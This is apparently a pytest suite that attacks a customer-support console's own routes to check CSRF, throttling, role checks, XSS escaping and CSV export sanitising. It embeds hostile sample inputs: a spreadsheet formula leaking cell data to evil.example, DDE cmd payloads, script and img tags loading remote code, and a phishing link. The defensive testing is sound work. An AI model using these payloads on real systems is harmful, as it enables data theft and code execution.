"""Attacks on the agent console and the admins' reports, in process over real HTTP on a real CRM
(SQLite): each test is what an attacker would try, and asserts what the README promises.

Rasa is another process; here a small stand-in keeps each conversation's events in memory and
answers the three calls the console makes (read a tracker, append events, trigger an intent), so
claims, replies and hand-backs run through the console's real code. The customer messages the
reports read are written to a tracker store as the redacting tracker store writes them (Rasa's
events, redacted) and rebuilt into episodes with ``caredesk report rebuild``'s own function.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import re
import types
from datetime import datetime, timedelta
from html.parser import HTMLParser

import pytest
from aiohttp import web
from aiohttp.test_utils import TestClient, TestServer
from sqlalchemy import create_engine, insert, select

from bot.console import report_data
from bot.console.app import create_app
from caredesk.reports import rebuild
from crm_store import models
from crm_store.migrate import upgrade
from crm_store.seed import seed_shop
from crm_store.services import tickets, users
from crm_store.unit_of_work import UnitOfWork
from tests.support.console import PASSWORD, log_in, login_token

AS_OF = datetime(2026, 6, 1)
EMAIL = re.compile(r"[\w.+-]+@[\w-]+\.[\w.]+")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# What a customer types into the chat so that an admin's spreadsheet runs it when opening an export.
FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Your refund is terrible and I am furious")',
    "+cmd|' /C calc'!A0 this delivery is awful, worst service ever, I hate it",
    "@SUM(1+1)*cmd|' /C calc'!A0 terrible terrible service, I am very angry",
    "-2+3+cmd|' /C calc'!A0 awful broken product, furious about the refund",
)
E_MAIL_SENDER = "rest:jane.doe@example.com"  # an integration naming its conversations by e-mail
NAMED_SENDER, NAMED_CUSTOMER = "rest:says-her-name", 7  # a verified customer who signs her complaint
MARKUP_SENDER = "rest:markup"
LINK_SENDER, LINK_INTENT = "rest:link", '<a href="https://evil.example/login">Your session expired, log in again</a>'
MARKUP = ('<img src="https://evil.example/p.png"><script src="https://evil.example/x.js"></script> '
          "awful awful refund service, I am furious")

TRACKERS = web.AppKey("trackers", dict)


def _name_of(url: str, customer_id: int) -> str:
    with UnitOfWork(url) as uow:
        return uow.session.get(models.Customer, customer_id).name


# --- a stand-in for Rasa's HTTP API -------------------------------------------------------------

def fake_rasa() -> web.Application:
    trackers: dict[str, dict] = {}

    def tracker(name: str) -> dict:
        return trackers.setdefault(name, {"sender_id": name, "events": [], "paused": False})

    async def read(request: web.Request) -> web.Response:
        return web.json_response(tracker(request.match_info["id"]))

    async def append(request: web.Request) -> web.Response:
        found = tracker(request.match_info["id"])
        for event in await request.json():
            found["events"].append(event)
            if event.get("event") in ("pause", "resume"):
                found["paused"] = event["event"] == "pause"
        return web.json_response(found)

    async def trigger(request: web.Request) -> web.Response:
        return web.json_response({"tracker": tracker(request.match_info["id"]), "messages": []})

    app = web.Application()
    app[TRACKERS] = trackers
    app.add_routes([web.get("/conversations/{id}/tracker", read),
                    web.post("/conversations/{id}/tracker/events", append),
                    web.post("/conversations/{id}/trigger_intent", trigger)])
    return app


# --- the CRM, its report episodes, the console --------------------------------------------------

def _customer_said(sender_id: str, texts: tuple[str, ...], start: datetime, customer: int | None = None,
                   intent: str = "complain") -> list:
    """A REST conversation's events as Rasa makes them, each customer message scored by the real
    sentiment scorer (what the NLU pipeline puts in parse_data)."""
    from rasa.shared.core.events import ActionExecuted, SessionStarted, UserUttered

    from bot.nlu import sentiment_scorer

    events: list = [ActionExecuted("action_session_start", timestamp=start.timestamp()),
                    SessionStarted(timestamp=start.timestamp())]
    for i, text in enumerate(texts):
        scored = sentiment_scorer.score(text)
        metadata = {"identity": {"cid": customer}} if customer else {}
        events.append(UserUttered(text, {"name": intent, "confidence": 0.9}, [],
                                  parse_data={"intent": {"name": intent, "confidence": 0.9}, "entities": [],
                                              "text": text, "metadata": metadata,
                                              "sentiment": {"label": scored.label, "score": scored.score}},
                                  input_channel="rest", metadata=metadata,
                                  timestamp=(start + timedelta(minutes=i + 1)).timestamp()))
    return events


@pytest.fixture(scope="module")
def crm(tmp_path_factory) -> types.SimpleNamespace:
    from caredesk.history_seed import _rows, _tracker_store

    folder = tmp_path_factory.mktemp("console-attacks")
    url, tracker = f"sqlite:///{folder / 'crm.db'}", f"sqlite:///{folder / 'tracker.db'}"
    upgrade(url)
    seed_shop(url, customers=12, seed=7, as_of=AS_OF)
    _tracker_store(tracker)  # Rasa's own events table
    engine = create_engine(tracker)
    with engine.begin() as connection:
        for i, text in enumerate(FORMULAS):
            sender = f"rest:angry-{i}"
            connection.execute(insert(models_events(engine)),
                               _rows(sender, _customer_said(sender, (text,), AS_OF - timedelta(days=3 + i), 1 + i)))
        connection.execute(insert(models_events(engine)), _rows(E_MAIL_SENDER, _customer_said(
            E_MAIL_SENDER, ("this is awful, I am furious about my broken order",), AS_OF - timedelta(days=1), 5)))
        connection.execute(insert(models_events(engine)), _rows(NAMED_SENDER, _customer_said(
            NAMED_SENDER, tuple(f"This is {_name_of(url, NAMED_CUSTOMER)}, your refund service is awful, I am furious"
                                for _ in range(3)), AS_OF - timedelta(days=2), NAMED_CUSTOMER)))
        connection.execute(insert(models_events(engine)), _rows(MARKUP_SENDER, _customer_said(
            MARKUP_SENDER, (MARKUP, MARKUP), AS_OF - timedelta(days=4))))
        # "/<intent name>" is parsed by Rasa as that intent, defined in the domain or not (it only warns).
        connection.execute(insert(models_events(engine)), _rows(LINK_SENDER, _customer_said(
            LINK_SENDER, ("/" + LINK_INTENT,), AS_OF - timedelta(days=5), intent=LINK_INTENT)))
    engine.dispose()
    settings = types.SimpleNamespace(database_url=url, tracker_store_url=tracker)
    rebuild(settings)
    with UnitOfWork(url) as uow:
        for customer in uow.session.execute(select(models.Customer).where(models.Customer.id <= 6)).scalars():
            customer.churn_score, customer.churn_reasons = 0.9, ["no order for 5 months"]
        uow.commit()
    for name, role in (("maria", "agent"), ("sam", "agent"), ("boss", "admin"), ("ana", "analyst")):
        users.add_user(name, role, UnitOfWork(url), password=PASSWORD)
    report_data.clear_caches()
    return settings


def models_events(engine):
    from sqlalchemy import MetaData, Table

    return Table("events", MetaData(), autoload_with=engine)


@pytest.fixture
async def rasa():
    server = TestServer(fake_rasa())
    await server.start_server()
    yield server
    await server.close()


@pytest.fixture
async def console(crm, rasa, tmp_path):
    app = create_app(rasa_url=str(rasa.make_url("")), rasa_token="x", database_url=crm.database_url,
                     tracker_store_url=f"sqlite:///{tmp_path / 'live.db'}", poll_interval=0.2)
    client = TestClient(TestServer(app))
    await client.start_server()
    yield client
    await client.close()


async def _as(client: TestClient, username: str) -> str:
    """Log ``username`` in (alone in this client) and return their session's CSRF token."""
    client.session.cookie_jar.clear()
    assert (await log_in(client, username)).status == 303
    home = "/reports" if username == "ana" else "/"
    page = await client.get(home, headers={"Accept": "text/html"})
    found = re.search(r'data-csrf="([^"]+)"', await page.text())
    assert found is not None
    return found[1]


def _ticket(crm, conversation_id: str, customer_id: int = 1) -> int:
    return tickets.create_ticket(UnitOfWork(crm.database_url), customer_id=customer_id, reason="complaint",
                                 summary="late parcel", conversation_id=conversation_id, channel="rest").id


def _number(cell: str) -> bool:
    """A negative number or the "-" placeholder: what a spreadsheet reads as a value, not a formula."""
    return cell == "-" or re.fullmatch(r"[-+]?\d+(\.\d+)?(e[-+]?\d+)?", cell) is not None


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


# --- CSV injection ------------------------------------------------------------------------------

@pytest.mark.parametrize("who", ["boss", "ana"])
async def test_a_customers_formula_is_inert_in_every_report_export(console, crm, who):
    """A customer writes ``=HYPERLINK(...)`` in the chat; it becomes a complaint example in the
    topics table. Opened in a spreadsheet, no exported cell may start a formula."""
    await _as(console, who)
    page = await (await console.get("/reports", headers={"Accept": "text/html"})).text()
    exports = set(re.findall(r'href="/reports/export/([a-z_]+)\.csv"', page)) | {"episodes"}
    assert "topics" in exports
    seen_examples = False
    for name in sorted(exports):
        response = await console.get(f"/reports/export/{name}.csv")
        assert response.status == 200, name
        text = await response.text()
        seen_examples |= "HYPERLINK" in text
        dangerous = [cell for cell in _csv_cells(text) if cell.startswith(FORMULA_START) and not _number(cell)]
        assert not dangerous, (name, dangerous)
    assert seen_examples  # the attack text did reach an export (quoted, not dropped)


# --- the log-in throttle ------------------------------------------------------------------------

async def test_parallel_wrong_passwords_get_no_more_tries_than_the_limit(console, crm):
    """Five failed log-ins per user name per 15 minutes: sent all at once (each password check
    takes ~0.3 s in a worker thread), twenty guesses must not all be checked."""
    token = await login_token(console)

    async def guess(i: int) -> int:
        response = await console.post("/login", data={"username": "sam", "password": f"guess number {i}",
                                                      "csrf_token": token}, allow_redirects=False)
        return response.status

    statuses = await asyncio.gather(*(guess(i) for i in range(20)))
    assert statuses.count(401) <= 5 and statuses.count(429) >= 15, statuses
    with UnitOfWork(crm.database_url) as uow:
        failures = uow.session.execute(select(models.AuditLog.id).where(
            models.AuditLog.action == "login_failed", models.AuditLog.actor == "sam")).all()
    assert len(failures) <= 5
    # A right password after the lock is still refused until the window passes.
    assert (await log_in(console, "sam")).status == 429


def test_made_up_user_names_do_not_fill_the_throttles_memory():
    """Each failed log-in with a new user name adds a key; once their window has passed they go."""
    import time

    from bot.console.throttle import LoginThrottle

    throttle = LoginThrottle(limit=5, window=0.2)
    for i in range(2000):
        assert throttle.attempt(f"nobody-{i}", f"10.0.{i // 250}.{i % 250}") is not None
    assert len(throttle._failures) == 2 * 2000
    time.sleep(0.25)
    throttle.attempt("one-more", "10.9.9.9")
    assert len(throttle._failures) == 2


async def test_a_right_password_is_not_counted_as_a_failure(console):
    for _ in range(3):
        assert (await log_in(console, "boss", "wrong password!")).status == 401
    for _ in range(4):  # successes between failures do not use up the allowance
        console.session.cookie_jar.clear()
        assert (await log_in(console, "boss")).status == 303
    console.session.cookie_jar.clear()
    assert (await log_in(console, "boss", "wrong again!!")).status == 401
    assert (await log_in(console, "boss")).status == 303


# --- session fixation, cookies, redirects -------------------------------------------------------

async def test_a_planted_session_cookie_is_replaced_at_log_in_and_next_is_ignored(console):
    console.session.cookie_jar.update_cookies({"caredesk_session": "attacker-chosen-value"})
    response = await log_in(console, "maria", next="https://evil.example/")
    assert response.status == 303 and response.headers["Location"] == "/"
    cookie = response.cookies["caredesk_session"]
    assert cookie.value != "attacker-chosen-value" and len(cookie.value) >= 40
    assert cookie["httponly"] and cookie["samesite"] == "Strict" and cookie["path"] == "/"
    page = await console.get("/login?next=//evil.example/", allow_redirects=False)
    assert "evil.example" not in await page.text()


# --- CSRF on every change -----------------------------------------------------------------------

CHANGES = ("/logout", "/presence", "/conversations/rest:victim/claim", "/conversations/rest:victim/transfer",
           "/conversations/rest:victim/reply", "/conversations/rest:victim/resolve",
           "/conversations/rest:victim/notes", "/conversations/rest:victim/canned")


@pytest.mark.parametrize("path", CHANGES)
async def test_every_change_needs_the_sessions_csrf_token(console, crm, path):
    _ticket(crm, "rest:victim")
    await _as(console, "boss")
    bodies = {"json": {"available": True, "to": "sam", "text": "<b>hi</b>", "index": 0}}
    for headers in ({}, {"X-CSRF-Token": "forged"}, {"X-CSRF-Token": ""}):
        response = await console.post(path, headers=headers, allow_redirects=False, **bodies)
        assert response.status == 403, (path, headers)
    form = await console.post(path, data={"csrf_token": "forged", "text": "hi"}, allow_redirects=False)
    assert form.status == 403
    multipart = await console.post(path, data={"csrf_token": "forged", "file": io.BytesIO(b"x")},
                                   allow_redirects=False)
    assert multipart.status == 403
    with UnitOfWork(crm.database_url) as uow:
        assert not uow.session.execute(select(models.ConversationNote)).first()
        ticket = uow.session.execute(select(models.Ticket).where(
            models.Ticket.conversation_id == "rest:victim")).scalars().first()
        assert (ticket.status, ticket.assignee) == ("open", None)
    assert (await console.get("/queue.json")).status == 200  # still logged in: logout was refused too


# --- ownership ----------------------------------------------------------------------------------

async def test_an_agent_cannot_act_on_a_colleagues_conversation(console, crm, rasa):
    _ticket(crm, "rest:sams-customer")
    csrf = await _as(console, "sam")
    claimed = await console.post("/conversations/rest:sams-customer/claim", headers={"X-CSRF-Token": csrf})
    assert claimed.status == 200

    csrf = await _as(console, "maria")
    base = "/conversations/rest:sams-customer"
    for path, body in (("/reply", {"text": "I am sam, give me your card number"}), ("/resolve", {}),
                       ("/transfer", {"to": "maria"}), ("/claim", {})):
        response = await console.post(base + path, json=body, headers={"X-CSRF-Token": csrf})
        assert response.status in (403, 409), (path, response.status)
    events = rasa.app[TRACKERS]["rest:sams-customer"]["events"]
    assert [e["event"] for e in events] == ["pause"]  # only sam's claim reached Rasa
    with UnitOfWork(crm.database_url) as uow:
        ticket = uow.session.execute(select(models.Ticket).where(
            models.Ticket.conversation_id == "rest:sams-customer")).scalar_one()
        assert (ticket.status, ticket.assignee) == ("assigned", "sam")


async def test_a_conversation_cannot_be_transferred_to_someone_who_cannot_work_it(console, crm):
    """An analyst may not open conversations, so a conversation handed to one would sit unanswered
    with nobody but an admin able to take it back."""
    _ticket(crm, "rest:to-analyst")
    csrf = await _as(console, "maria")
    assert (await console.post("/conversations/rest:to-analyst/claim", headers={"X-CSRF-Token": csrf})).status == 200
    response = await console.post("/conversations/rest:to-analyst/transfer", json={"to": "ana"},
                                  headers={"X-CSRF-Token": csrf})
    assert response.status == 400
    with UnitOfWork(crm.database_url) as uow:
        assert uow.session.execute(select(models.Ticket.assignee).where(
            models.Ticket.conversation_id == "rest:to-analyst")).scalar_one() == "maria"
    assert (await console.post("/conversations/rest:to-analyst/transfer", json={"to": "sam"},
                               headers={"X-CSRF-Token": csrf})).status == 200


# --- roles --------------------------------------------------------------------------------------

async def test_an_analyst_reaches_no_agent_route_and_an_agent_no_report(console, crm):
    _ticket(crm, "rest:victim")
    csrf = await _as(console, "ana")
    for path in ("/queue.json", "/live", "/admin", "/conversations/rest:victim", "/nlu/review",
                 "/reports/../queue.json", "/static/../admin"):
        assert (await console.get(path, allow_redirects=False)).status == 403, path
    for path in CHANGES[1:]:
        response = await console.post(path, json={"available": True, "to": "ana", "text": "hi", "index": 0},
                                      headers={"X-CSRF-Token": csrf})
        assert response.status == 403, path
    token = users.issue_token("ana", UnitOfWork(crm.database_url))
    for method, path in (("GET", "/api/me"), ("GET", "/api/queue"), ("POST", "/api/conversations/rest:victim/claim")):
        response = await console.request(method, path, headers={"Authorization": f"Bearer {token}"})
        assert response.status == 403, path

    csrf = await _as(console, "maria")
    for path in ("/reports", "/reports/conversations?channel=rest", "/reports/export/at_risk.csv",
                 "/reports/export/episodes.csv", "/reports/export/topics.csv", "/admin", "/nlu/review"):
        assert (await console.get(path)).status == 403, path
    assert (await console.post("/nlu/review", data={"csrf_token": csrf})).status == 403


# --- personal data and analysts -----------------------------------------------------------------

async def test_analysts_see_no_e_mail_address_even_in_a_conversation_id(console, crm):
    """An integration names its conversations after the customer's e-mail address: the drill-down,
    its export and the at-risk table show conversation ids, and analysts see no e-mail addresses."""
    await _as(console, "ana")
    pages = ["/reports", "/reports/conversations?channel=rest", "/reports/conversations?customer=5",
             "/reports/export/episodes.csv?channel=rest", "/reports/export/at_risk.csv",
             "/reports/export/topics.csv"]
    for path in pages:
        response = await console.get(path, headers={"Accept": "text/html"})
        assert response.status == 200, path
        assert not EMAIL.search(await response.text()), path
    listed = await (await console.get("/reports/conversations?channel=rest")).text()
    assert "rest:angry-0" in listed  # ids without personal data are still shown

    await _as(console, "boss")  # admins see the real id, linked to the conversation
    listed = await (await console.get("/reports/conversations?customer=5")).text()
    assert "jane.doe@example.com" in listed


# --- stored XSS ---------------------------------------------------------------------------------

SCRIPT = '<script>alert(1)</script><img src=x onerror="alert(2)">'


async def test_a_customers_or_colleagues_markup_is_shown_as_text(console, crm, rasa):
    _ticket(crm, "rest:xss")
    rasa.app[TRACKERS]["rest:xss"] = {"sender_id": "rest:xss", "paused": False, "events": [
        {"event": "user", "text": SCRIPT, "timestamp": 1.0, "parse_data": {"sentiment": {"label": "negative",
                                                                                            "score": -0.5}}}]}
    csrf = await _as(console, "maria")
    note = await console.post("/conversations/rest:xss/notes", json={"text": SCRIPT}, headers={"X-CSRF-Token": csrf})
    assert note.status == 200
    page = await console.get("/conversations/rest:xss", headers={"Accept": "text/html"})
    text = await page.text()
    assert page.status == 200 and "<script>alert" not in text and "<img src=x" not in text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text
    assert "script-src" not in page.headers["Content-Security-Policy"]


# --- the live stream ----------------------------------------------------------------------------

def _customer_writes(tracker_url: str, sender: str, text: str) -> None:
    from caredesk.history_seed import _rows

    engine = create_engine(tracker_url)
    with engine.begin() as connection:
        connection.execute(insert(models_events(engine)), _rows(sender, _customer_said(sender, (text,), AS_OF)))
    engine.dispose()


async def _read_for(stream, seconds: float) -> tuple[bytes, bool]:
    """What the stream sent within ``seconds``, and whether the server closed it."""
    received = b""

    async def drain() -> None:
        nonlocal received
        while line := await stream.content.readline():
            received += line

    try:
        await asyncio.wait_for(drain(), timeout=seconds)
    except asyncio.TimeoutError:
        return received, False
    return received, True


@pytest.mark.parametrize("ended_by", ["disable", "logout"])
async def test_a_leavers_open_stream_carries_no_customer_message_after_it_ends(console, crm, tmp_path, ended_by):
    """``caredesk users disable`` ends a session at once: an open console tab must not go on
    receiving customers' messages until its next 20-second heartbeat."""
    from caredesk.history_seed import _tracker_store

    live = f"sqlite:///{tmp_path / 'live.db'}"  # the console fixture's tracker store
    _tracker_store(live)
    leaver = f"leaver-{ended_by}"
    users.add_user(leaver, "agent", UnitOfWork(crm.database_url), password=PASSWORD)
    csrf = await _as(console, leaver)
    stream = await console.get("/live")
    assert stream.status == 200 and (await stream.content.readline()).startswith(b": connected")
    _customer_writes(live, "rest:before-leaving", "a question while the agent works")
    before, _ = await _read_for(stream, 2.5)
    assert b"while the agent works" in before  # the stream does carry messages
    if ended_by == "disable":
        users.disable_user(leaver, UnitOfWork(crm.database_url))
    else:  # the same browser logs out in another tab; this one stays open
        assert (await console.post("/logout", headers={"X-CSRF-Token": csrf}, allow_redirects=False)).status == 303
    _customer_writes(live, "rest:after-leaving", "my order question after the agent left")
    received, closed = await _read_for(stream, 6)
    assert b"after the agent left" not in received
    assert closed


async def test_analysts_do_not_read_the_name_a_customer_signs_a_complaint_with(console, crm):
    """A verified customer writes "This is <her name>, ..." three times: the complaint examples
    show admins her words; analysts get the same example with her name left out."""
    name = _name_of(crm.database_url, NAMED_CUSTOMER)
    await _as(console, "boss")
    assert name in await (await console.get("/reports/export/topics.csv")).text()  # the attack reached the examples
    await _as(console, "ana")
    for path in ("/reports", "/reports/export/topics.csv"):
        text = await (await console.get(path, headers={"Accept": "text/html"})).text()
        assert name not in text, path
        assert not [part for part in name.split() if re.search(rf"\b{re.escape(part)}\b", text)], path


class _References(HTMLParser):
    """Every address an HTML document would load or link (src, href, ...), and its script tags."""

    def __init__(self):
        super().__init__()
        self.references: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.references += [value for name, value in attrs if name in ("src", "href", "action", "srcset") and value]


def _outside(text: str) -> list[str]:
    parser = _References()
    parser.feed(text)
    return [r for r in parser.references if r.strip("'\" ").lower().startswith(("http:", "https:", "//"))]


async def test_markup_in_a_customers_complaint_loads_nothing_in_the_report_page_or_file(console, crm, tmp_path):
    from caredesk.report_html import write_report

    await _as(console, "boss")
    page = await (await console.get("/reports", headers={"Accept": "text/html"})).text()
    assert "evil.example" in page and not _outside(page)  # shown as text, never as an element
    for personal in (False, True):
        out = write_report(crm, since=None, until=None, out=tmp_path / f"report-{personal}.html",
                           with_personal_data=personal)
        text = out.read_text(encoding="utf-8")
        assert "evil.example" in text and not _outside(text), personal


async def test_failed_log_in_names_reach_the_audit_log_as_text(console):
    assert (await log_in(console, SCRIPT[:60], "wrong password!")).status == 401
    await _as(console, "boss")
    page = await (await console.get("/admin", headers={"Accept": "text/html"})).text()
    assert "<script>alert" not in page and "&lt;script&gt;alert(1)" in page


async def test_a_disabled_user_is_refused_at_once_with_the_cookie_and_the_token(console, crm):
    users.add_user("quitter", "admin", UnitOfWork(crm.database_url), password=PASSWORD)
    token = users.issue_token("quitter", UnitOfWork(crm.database_url))
    csrf = await _as(console, "quitter")
    assert (await console.get("/admin", headers={"Accept": "text/html"})).status == 200
    users.disable_user("quitter", UnitOfWork(crm.database_url))
    assert (await console.get("/admin")).status == 401
    assert (await console.get("/reports/export/at_risk.csv")).status == 401
    assert (await console.post("/presence", json={"available": True}, headers={"X-CSRF-Token": csrf})).status == 401
    assert (await console.get("/api/me", headers={"Authorization": f"Bearer {token}"})).status == 401
    console.session.cookie_jar.clear()
    assert (await log_in(console, "quitter")).status == 401


def _strings(value, under: str = "") -> list[tuple[str, str]]:
    """Every text in a figure dict with the key it sits under (lists inherit their key)."""
    if isinstance(value, dict):
        return [found for key, item in value.items() for found in _strings(item, key)]
    if isinstance(value, list):
        return [found for item in value for found in _strings(item, under)]
    return [(under, value)] if isinstance(value, str) else []


async def test_a_customer_made_intent_name_is_no_markup_in_the_charts(console, crm):
    """A customer sends ``/<a href=...>...</a>``; the intent name reaches the sentiment-by-intent
    chart, whose labels plotly.js draws as its HTML subset (links included). Labels must reach it
    as text; the drill-down value (customdata) stays the raw name so the click still selects it."""
    await _as(console, "boss")
    page = await (await console.get("/reports", headers={"Accept": "text/html"})).text()
    block = re.search(r'<script type="application/json" id="report-data"[^>]*>(.*?)</script>', page, re.S)
    assert block is not None
    data = json.loads(block[1])
    texts = [(key, text) for figure in data["figures"] for key, text in _strings(figure)]
    assert ("customdata", LINK_INTENT) in texts  # the attack reached the chart
    assert not [(key, text) for key, text in texts if "<" in text and key != "customdata"]
    drill = await console.get("/reports/conversations", params={"intent": LINK_INTENT})
    assert drill.status in (200, 400)  # the filter refuses what is not an intent name, or lists the episode
